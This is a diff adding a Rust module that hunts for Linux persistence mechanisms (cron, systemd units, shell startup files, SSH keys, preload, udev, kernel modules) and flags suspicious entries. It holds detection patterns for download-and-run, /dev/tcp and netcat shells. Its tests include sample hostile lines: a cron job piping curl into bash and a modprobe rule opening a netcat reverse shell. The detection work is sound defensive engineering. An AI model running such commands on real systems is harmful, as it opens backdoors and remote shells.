@@ -0,0 +1,684 @@
+use anyhow::Result;
+use chrono::{DateTime, Local, TimeZone};
+use regex::Regex;
+use std::collections::HashMap;
+use std::fs;
+#[cfg(unix)]
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use crate::baseline::{CheckResult, CheckStatus};
+use crate::config::Config;
+use crate::report::{ExecutionRecord, Report};
+use crate::utils::Account;
+
+/// Files larger than this are previewed and pattern-matched on their start only
+const READ_LIMIT: usize = 256 * 1024;
+/// Content lines shown under each entry
+const PREVIEW_LINES: usize = 3;
+const PREVIEW_WIDTH: usize = 120;
+
+/// Kind of persistence mechanism an entry belongs to
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Location {
+    Cron,
+    AtJob,
+    Systemd,
+    ShellStartup,
+    AuthorizedKeys,
+    Preload,
+    Udev,
+    RcLocal,
+    Autostart,
+    KernelModule,
+}
+
+impl Location {
+    pub fn title(self) -> &'static str {
+        match self {
+            Location::Cron => "Cron",
+            Location::AtJob => "At jobs",
+            Location::Systemd => "Systemd units and timers",
+            Location::ShellStartup => "Shell startup files",
+            Location::AuthorizedKeys => "SSH authorized_keys",
+            Location::Preload => "Dynamic linker preload",
+            Location::Udev => "Udev rules",
+            Location::RcLocal => "rc.local",
+            Location::Autostart => "XDG autostart",
+            Location::KernelModule => "Kernel modules",
+        }
+    }
+
+    /// Lines worth previewing before the rest of the file
+    fn is_interesting(self, line: &str) -> bool {
+        match self {
+            Location::Systemd => [
+                "ExecStart",
+                "ExecStop",
+                "ExecReload",
+                "OnCalendar",
+                "OnBoot",
+            ]
+            .iter()
+            .any(|key| line.starts_with(key)),
+            Location::Autostart => line.starts_with("Exec="),
+            Location::Udev => line.contains("RUN"),
+            Location::KernelModule => line.starts_with("install "),
+            _ => false,
+        }
+    }
+}
+
+/// One place something can be started from
+#[derive(Debug, Clone)]
+pub struct Entry {
+    pub location: Location,
+    /// File path, or a description for entries that are not files
+    pub name: String,
+    pub owner: Option<String>,
+    pub modified: Option<DateTime<Local>>,
+    pub preview: Vec<String>,
+    /// Why the entry deserves a closer look, empty when nothing stands out
+    pub flags: Vec<String>,
+}
+
+/// Commands and constructs seldom found in legitimate startup files
+fn suspicious_patterns() -> &'static [(Regex, &'static str)] {
+    static PATTERNS: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
+    PATTERNS.get_or_init(|| {
+        [
+            (
+                r"(?i)\b(curl|wget)\b[^\n|;]*\|\s*(ba|da|z)?sh\b",
+                "downloads and runs a script",
+            ),
+            (r"/dev/(tcp|udp)/", "opens a raw network connection"),
+            (r"\bnc(at)?\b[^\n]*\s-[a-z]*e\b", "netcat with -e"),
+            (r"(?i)base64\s+(-d|--decode)", "decodes base64"),
+            (r"\b(ba)?sh\s+-i\b", "starts an interactive shell"),
+            (
+                r"(^|[\s=:'\x22])/(tmp|var/tmp|dev/shm)/",
+                "runs from a temporary directory",
+            ),
+            (r"\bLD_PRELOAD\b", "sets LD_PRELOAD"),
+            (
+                r"\b(python[0-9.]*|perl|ruby)\s+-(c|e)\b",
+                "runs inline script code",
+            ),
+            (
+                r"chmod\s+([ugoa]*\+s|[2467][0-7]{3})\b",
+                "sets a setuid or setgid bit",
+            ),
+        ]
+        .into_iter()
+        .map(|(pattern, reason)| (Regex::new(pattern).expect("valid pattern"), reason))
+        .collect()
+    })
+}
+
+/// Reasons from the content of a file
+fn content_flags(location: Location, content: &str) -> Vec<String> {
+    let mut flags: Vec<String> = suspicious_patterns()
+        .iter()
+        .filter(|(pattern, _)| pattern.is_match(content))
+        .map(|(_, reason)| reason.to_string())
+        .collect();
+    let commands = || {
+        content
+            .lines()
+            .map(str::trim)
+            .filter(|line| !line.is_empty() && !line.starts_with('#'))
+    };
+
+    match location {
+        Location::Preload if commands().next().is_some() => {
+            flags.push("preloads libraries into every process".to_string());
+        }
+        Location::RcLocal if commands().any(|line| line != "exit 0") => {
+            flags.push("runs commands at boot".to_string());
+        }
+        Location::KernelModule => {
+            // `install <module> /bin/true` is the usual way to disable a module
+            let runs_command = commands().any(|line| {
+                let mut words = line.split_whitespace();
+                words.next() == Some("install")
+                    && words.nth(1).is_some_and(|program| {
+                        !matches!(
+                            program,
+                            "true"
+                                | "false"
+                                | "/bin/true"
+                                | "/bin/false"
+                                | "/usr/bin/true"
+                                | "/usr/bin/false"
+                        )
+                    })
+            });
+            if runs_command {
+                flags.push("runs a command when a module loads".to_string());
+            }
+        }
+        _ => {}
+    }
+    flags
+}
+
+/// First meaningful lines, preferring the ones that say what gets run
+fn preview(location: Location, content: &str) -> Vec<String> {
+    let lines: Vec<&str> = content
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .collect();
+    let interesting: Vec<&str> = lines
+        .iter()
+        .copied()
+        .filter(|line| location.is_interesting(line))
+        .collect();
+    let chosen = if interesting.is_empty() {
+        lines
+    } else {
+        interesting
+    };
+    chosen
+        .into_iter()
+        .take(PREVIEW_LINES)
+        .map(|line| {
+            if line.chars().count() > PREVIEW_WIDTH {
+                format!("{}…", line.chars().take(PREVIEW_WIDTH).collect::<String>())
+            } else {
+                line.to_string()
+            }
+        })
+        .collect()
+}
+
+/// The metadata the collector looks at
+struct Stat {
+    mtime: i64,
+    mode: u32,
+    uid: u32,
+}
+
+impl Stat {
+    #[cfg(unix)]
+    fn of(metadata: &fs::Metadata) -> Self {
+        Self {
+            mtime: metadata.mtime(),
+            mode: metadata.mode(),
+            uid: metadata.uid(),
+        }
+    }
+
+    /// Without Unix permissions only the modification time is known; files
+    /// count as root owned and not world-writable
+    #[cfg(not(unix))]
+    fn of(metadata: &fs::Metadata) -> Self {
+        let mtime = metadata
+            .modified()
+            .ok()
+            .and_then(|time| time.duration_since(std::time::UNIX_EPOCH).ok())
+            .map_or(0, |elapsed| elapsed.as_secs() as i64);
+        Self {
+            mtime,
+            mode: 0,
+            uid: 0,
+        }
+    }
+}
+
+/// Gathers entries and applies the checks that only need metadata
+struct Collector {
+    entries: Vec<Entry>,
+    now: DateTime<Local>,
+    recent_days: i64,
+    names: HashMap<u32, String>,
+}
+
+impl Collector {
+    fn new(recent_days: u32, accounts: &[Account]) -> Self {
+        Self {
+            entries: Vec::new(),
+            now: Local::now(),
+            recent_days: i64::from(recent_days),
+            names: accounts
+                .iter()
+                .map(|account| (account.uid, account.name.clone()))
+                .collect(),
+        }
+    }
+
+    fn name(&self, uid: u32) -> String {
+        self.names
+            .get(&uid)
+            .cloned()
+            .unwrap_or_else(|| uid.to_string())
+    }
+
+    /// Record `path` if it exists; `expected_owner` besides root may own it
+    fn file(&mut self, location: Location, path: &Path, expected_owner: Option<u32>) {
+        let Ok(metadata) = fs::symlink_metadata(path) else {
+            return;
+        };
+        if metadata.is_dir() {
+            return;
+        }
+        let mut flags = Vec::new();
+        let stat = Stat::of(&metadata);
+
+        let modified = Local.timestamp_opt(stat.mtime, 0).single();
+        if let Some(modified) = modified {
+            let age = self.now.signed_duration_since(modified);
+            if age.num_seconds() < -60 {
+                flags.push("modification time is in the future".to_string());
+            } else if age.num_days() < self.recent_days {
+                flags.push(match age.num_days() {
+                    0 => "modified today".to_string(),
+                    days => format!("modified {} day(s) ago", days),
+                });
+            }
+        }
+        if !metadata.is_symlink() && stat.mode & 0o002 != 0 {
+            flags.push("world-writable".to_string());
+        }
+        let uid = stat.uid;
+        if uid != 0 && expected_owner.is_some_and(|expected| expected != uid) {
+            flags.push(format!("owned by {}", self.name(uid)));
+        }
+        if path
+            .file_name()
+            .is_some_and(|name| name.to_string_lossy().starts_with('.'))
+            && location != Location::ShellStartup
+        {
+            flags.push("hidden file name".to_string());
+        }
+
+        let preview_lines = if metadata.is_symlink() {
+            fs::read_link(path)
+                .map(|target| vec![format!("→ {}", target.display())])
+                .unwrap_or_default()
+        } else {
+            let content = read_start(path);
+            match content {
+                Some(content) => {
+                    flags.extend(content_flags(location, &content));
+                    preview(location, &content)
+                }
+                None => vec!["(not readable, run as root)".to_string()],
+            }
+        };
+
+        self.entries.push(Entry {
+            location,
+            name: path.display().to_string(),
+            owner: Some(self.name(uid)),
+            modified,
+            preview: preview_lines,
+            flags,
+        });
+    }
+
+    /// Record the files in `dir`, and with `depth` > 1 those in its subdirectories
+    fn dir(&mut self, location: Location, dir: &Path, depth: usize, expected_owner: Option<u32>) {
+        let Ok(children) = fs::read_dir(dir) else {
+            return;
+        };
+        let mut paths: Vec<PathBuf> = children
+            .filter_map(|child| Some(child.ok()?.path()))
+            .collect();
+        paths.sort();
+        for path in paths {
+            let is_dir = fs::symlink_metadata(&path).is_ok_and(|metadata| metadata.is_dir());
+            if is_dir {
+                if depth > 1 {
+                    self.dir(location, &path, depth - 1, expected_owner);
+                }
+            } else if location != Location::Systemd || !is_vendor_link(&path) {
+                self.file(location, &path, expected_owner);
+            }
+        }
+    }
+}
+
+/// Symlinks enabling or masking packaged units, which `systemctl enable` creates in bulk
+fn is_vendor_link(path: &Path) -> bool {
+    let Ok(target) = fs::read_link(path) else {
+        return false;
+    };
+    ["/lib/systemd/", "/usr/lib/systemd/", "/etc/systemd/"]
+        .iter()
+        .any(|prefix| target.starts_with(prefix))
+        || target == Path::new("/dev/null")
+}
+
+fn read_start(path: &Path) -> Option<String> {
+    use std::io::Read;
+
+    let file = fs::File::open(path).ok()?;
+    let mut content = Vec::new();
+    file.take(READ_LIMIT as u64)
+        .read_to_end(&mut content)
+        .ok()?;
+    Some(String::from_utf8_lossy(&content).into_owned())
+}
+
+/// Loaded modules the kernel reports as out-of-tree, unsigned, proprietary or forced
+fn tainted_modules(collector: &mut Collector) {
+    let content = fs::read_to_string("/proc/modules").unwrap_or_default();
+    for line in content.lines() {
+        let name = line.split_whitespace().next().unwrap_or_default();
+        let Some(taint) = line
+            .rsplit_once('(')
+            .and_then(|(_, rest)| rest.strip_suffix(')'))
+        else {
+            continue;
+        };
+        let flags: Vec<String> = taint
+            .chars()
+            .filter_map(|flag| match flag {
+                'O' => Some("out-of-tree module"),
+                'E' => Some("unsigned module"),
+                'P' => Some("proprietary module"),
+                'F' => Some("force-loaded module"),
+                _ => None,
+            })
+            .map(str::to_string)
+            .collect();
+        if flags.is_empty() {
+            continue;
+        }
+        collector.entries.push(Entry {
+            location: Location::KernelModule,
+            name: format!("{} (loaded)", name),
+            owner: None,
+            modified: None,
+            preview: Vec::new(),
+            flags,
+        });
+    }
+}
+
+/// Walk every known persistence location, sorted by location and path
+pub fn hunt(config: &Config) -> Vec<Entry> {
+    let passwd = fs::read_to_string("/etc/passwd").unwrap_or_default();
+    let mut collector = Collector::new(
+        config.persistence.recent_days,
+        &crate::utils::parse_passwd(&passwd),
+    );
+    let accounts = crate::utils::accounts_with_homes();
+    let root = Some(0);
+
+    // Cron and at
+    collector.file(Location::Cron, Path::new("/etc/crontab"), root);
+    collector.file(Location::Cron, Path::new("/etc/anacrontab"), root);
+    for dir in [
+        "/etc/cron.d",
+        "/etc/cron.hourly",
+        "/etc/cron.daily",
+        "/etc/cron.weekly",
+        "/etc/cron.monthly",
+    ] {
+        collector.dir(Location::Cron, Path::new(dir), 1, root);
+    }
+    // Debian keeps user crontabs in crontabs/, Red Hat directly in the spool
+    collector.dir(
+        Location::Cron,
+        Path::new("/var/spool/cron/crontabs"),
+        1,
+        None,
+    );
+    collector.dir(Location::Cron, Path::new("/var/spool/cron"), 1, None);
+    collector.dir(
+        Location::AtJob,
+        Path::new("/var/spool/cron/atjobs"),
+        1,
+        None,
+    );
+    collector.dir(Location::AtJob, Path::new("/var/spool/at"), 1, None);
+
+    // Units installed by the administrator; packaged ones under /usr/lib are
+    // better checked with the package manager's verification
+    for dir in [
+        "/etc/systemd/system",
+        "/etc/systemd/user",
+        "/usr/local/lib/systemd/system",
+        "/usr/local/lib/systemd/user",
+    ] {
+        collector.dir(Location::Systemd, Path::new(dir), 2, root);
+    }
+
+    for file in [
+        "/etc/profile",
+        "/etc/bash.bashrc",
+        "/etc/bashrc",
+        "/etc/environment",
+        "/etc/zsh/zshrc",
+        "/etc/zshrc",
+    ] {
+        collector.file(Location::ShellStartup, Path::new(file), root);
+    }
+    collector.dir(Location::ShellStartup, Path::new("/etc/profile.d"), 1, root);
+
+    collector.file(Location::Preload, Path::new("/etc/ld.so.preload"), root);
+    collector.dir(Location::Udev, Path::new("/etc/udev/rules.d"), 1, root);
+    collector.file(Location::RcLocal, Path::new("/etc/rc.local"), root);
+    collector.file(Location::RcLocal, Path::new("/etc/rc.d/rc.local"), root);
+    collector.dir(
+        Location::Autostart,
+        Path::new("/etc/xdg/autostart"),
+        1,
+        root,
+    );
+
+    collector.file(Location::KernelModule, Path::new("/etc/modules"), root);
+    collector.dir(
+        Location::KernelModule,
+        Path::new("/etc/modules-load.d"),
+        1,
+        root,
+    );
+    collector.dir(
+        Location::KernelModule,
+        Path::new("/etc/modprobe.d"),
+        1,
+        root,
+    );
+    tainted_modules(&mut collector);
+
+    for account in &accounts {
+        let home = &account.home;
+        let owner = Some(account.uid);
+        for file in [
+            ".bashrc",
+            ".bash_profile",
+            ".bash_login",
+            ".bash_logout",
+            ".profile",
+            ".zshrc",
+            ".zprofile",
+            ".zshenv",
+            ".zlogin",
+        ] {
+            collector.file(Location::ShellStartup, &home.join(file), owner);
+        }
+        for file in [".ssh/authorized_keys", ".ssh/authorized_keys2"] {
+            let before = collector.entries.len();
+            collector.file(Location::AuthorizedKeys, &home.join(file), owner);
+            // Service accounts rarely need to accept SSH logins
+            if (1..1000).contains(&account.uid) {
+                if let Some(entry) = collector.entries.get_mut(before) {
+                    entry.flags.push(format!("system account {}", account.name));
+                }
+            }
+        }
+        for dir in [".config/systemd/user", ".local/share/systemd/user"] {
+            collector.dir(Location::Systemd, &home.join(dir), 2, owner);
+        }
+        collector.dir(
+            Location::Autostart,
+            &home.join(".config/autostart"),
+            1,
+            owner,
+        );
+    }
+
+    let mut entries = collector.entries;
+    entries.sort_by(|a, b| (a.location, &a.name).cmp(&(b.location, &b.name)));
+    entries.dedup_by(|a, b| a.name == b.name);
+    entries
+}
+
+/// Entries grouped by location, flagged ones marked with ⚠️
+pub fn render(entries: &[Entry], flagged_only: bool, recent_days: u32) -> String {
+    let flagged = entries
+        .iter()
+        .filter(|entry| !entry.flags.is_empty())
+        .count();
+    let mut out = format!(
+        "🔎 {} persistence entries, {} flagged (recent means the last {} days)\n",
+        entries.len(),
+        flagged,
+        recent_days
+    );
+
+    let shown: Vec<&Entry> = entries
+        .iter()
+        .filter(|entry| !flagged_only || !entry.flags.is_empty())
+        .collect();
+    let mut current = None;
+    for entry in shown {
+        if current != Some(entry.location) {
+            current = Some(entry.location);
+            let count = entries
+                .iter()
+                .filter(|other| other.location == entry.location)
+                .count();
+            out.push_str(&format!("\n{} ({})\n", entry.location.title(), count));
+        }
+
+        let marker = if entry.flags.is_empty() {
+            "•  "
+        } else {
+            "⚠️  "
+        };
+        let mut line = format!("  {}{}", marker, entry.name);
+        if let Some(owner) = &entry.owner {
+            line.push_str(&format!("  {}", owner));
+        }
+        if let Some(modified) = entry.modified {
+            line.push_str(&format!("  {}", modified.format("%Y-%m-%d %H:%M")));
+        }
+        if !entry.flags.is_empty() {
+            line.push_str(&format!("  [{}]", entry.flags.join("; ")));
+        }
+        out.push_str(&line);
+        out.push('\n');
+        for preview in &entry.preview {
+            out.push_str(&format!("        {}\n", preview));
+        }
+    }
+    out
+}
+
+/// Hunt for the TUI details panel
+pub fn run_native(config: &Config) -> Result<String> {
+    let entries = hunt(config);
+    Ok(render(&entries, false, config.persistence.recent_days))
+}
+
+/// Handler for `linux-toolkit persistence`
+pub fn persistence_command(
+    config: &Config,
+    flagged_only: bool,
+    report_path: Option<&Path>,
+) -> Result<()> {
+    let started_at = chrono::Utc::now();
+    let entries = hunt(config);
+    let text = render(&entries, flagged_only, config.persistence.recent_days);
+    println!("{}", text);
+
+    if let Some(path) = report_path {
+        let mut report = Report::new("Persistence Hunt").with_execution(ExecutionRecord {
+            command_id: "security/persistence-hunter".to_string(),
+            command_name: "Persistence Hunter".to_string(),
+            started_at,
+            success: Some(true),
+            output: text,
+        });
+        report.findings = entries
+            .iter()
+            .filter(|entry| !entry.flags.is_empty())
+            .map(|entry| CheckResult {
+                id: format!(
+                    "persistence/{}",
+                    crate::utils::slugify(entry.location.title())
+                ),
+                title: entry.name.clone(),
+                status: CheckStatus::Warn,
+                evidence: entry.flags.iter().chain(&entry.preview).cloned().collect(),
+                remediation: "Confirm the entry was installed on purpose, otherwise \
+                              preserve it as evidence and remove it"
+                    .to_string(),
+                remediation_command: None,
+            })
+            .collect();
+        report.write_to(path)?;
+        println!("Report written to {}", path.display());
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::TempDir;
+
+    #[test]
+    fn flags_suspicious_content() {
+        let cron = "# m h dom mon dow user command\n\
+                    */5 * * * * root curl -fsSL http://203.0.113.9/x | bash\n";
+        assert_eq!(
+            content_flags(Location::Cron, cron),
+            ["downloads and runs a script"]
+        );
+        assert!(content_flags(Location::Cron, "0 3 * * * root /usr/sbin/logrotate\n").is_empty());
+
+        let modprobe =
+            "install usb-storage /bin/true\ninstall dccp /bin/sh -c 'nc -e /bin/sh 1.2.3.4 9'\n";
+        assert_eq!(
+            content_flags(Location::KernelModule, modprobe),
+            ["netcat with -e", "runs a command when a module loads"]
+        );
+        assert!(
+            content_flags(Location::KernelModule, "install usb-storage /bin/true\n").is_empty()
+        );
+        assert!(content_flags(Location::RcLocal, "#!/bin/sh\nexit 0\n").is_empty());
+        assert_eq!(
+            preview(
+                Location::Systemd,
+                "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/run\n"
+            ),
+            ["ExecStart=/tmp/.x/run"]
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn flags_recent_and_writable_files() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = TempDir::new("persistence");
+        let path = dir.join(".update");
+        fs::write(&path, "@reboot root /usr/local/bin/update\n").unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
+
+        let mut collector = Collector::new(7, &[]);
+        collector.dir(Location::Cron, dir.path(), 1, None);
+        let entry = &collector.entries[0];
+        assert_eq!(
+            entry.flags,
+            ["modified today", "world-writable", "hidden file name"]
+        );
+        assert_eq!(entry.preview, ["@reboot root /usr/local/bin/update"]);
+    }
+}